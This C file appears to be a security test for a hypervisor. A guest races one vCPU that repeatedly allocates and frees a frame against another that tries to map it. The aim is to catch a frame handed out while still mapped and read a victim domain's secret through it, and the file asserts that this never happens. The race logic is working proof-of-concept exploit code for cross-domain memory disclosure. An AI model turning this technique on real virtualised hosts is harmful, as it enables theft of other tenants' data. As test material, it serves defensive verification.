/*
 * Wants: a mapping of a frame that is no longer its own.
 *
 * A frame that a domain gets passes from nobody to the hypervisor to the domain, in more than one
 * store: who owns it, how many refer to it, what role it has.  If the owner can be read before the
 * count is settled, a second vCPU maps the frame in between, and the store of the count forgets
 * that mapping: the frame is freed while it is mapped, and the next owner's words are read through
 * it. vCPU 1 takes one frame and gives it back, for ever; it is the same each time.  vCPU 0 tries
 * to map it all the while, and when it has, keeps it for some rounds: a frame that is handed out
 * again although it is mapped has lost that reference.  The victim takes frames with its secret in
 * them meanwhile.
 *
 * Fails: a frame under construction has no references, and none can be taken from 0; one store of
 * its state shows it whole.
 */
#include "attack.h"
#include "clock.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

static volatile unsigned long candidate, loops, held, held_since;
static volatile bool hit;

static void churn(unsigned vcpu)
{
    while (!hit) {
        unsigned long frame = 0x100000, since = held_since, mapped = held;
        if (frames_populate(&frame, 1, 0) != 1)
            continue;
        /* Mapped before this call, and still the same mapping after it? */
        if (mapped && frame == mapped && held == mapped && held_since == since)
            hit = true;
        candidate = frame;
        frames_release(&frame, 1, 0);
        loops++;
    }
}

/* Map the frame that comes and goes; true if it is ours for now. */
static bool grab(void *window, unsigned long own)
{
    unsigned long frame = candidate;

    if (!frame || frame_show(window, frame, PTE_RO))
        return false;
    held_since++;
    held = frame;
    const uint64_t end = clock_ns() + 10000000;
    for (unsigned long l = loops; !hit && loops < l + 4 && clock_ns() < end;)
        __asm__ volatile("pause");
    held = 0;
    if (!hit)
        frame_show(window, own, PTE_RW);
    return true;
}

void guest_main(void)
{
    uint64_t *window = page_alloc();
    const unsigned long own = page_mfn(window);
    unsigned long tries = 0, mapped = 0;

    attack_begin("assign-race");
    attack_vcpus(2, churn);
    while (!hit && attack_goes_on())
        for (unsigned k = 0; k < 500 && !hit; k++, tries++)
            mapped += grab(window, own);
    tap_note("%lu tries, %lu mapped, %lu rounds", tries, mapped, loops);
    for (unsigned i = 0; hit && i < 512; i++)
        if (is_secret(((volatile uint64_t *)window)[i])) {
            tap_note("word %u of the victim's is read", i);
            break;
        }
    tap_ok(!hit, "no frame is handed out while it is mapped");
}
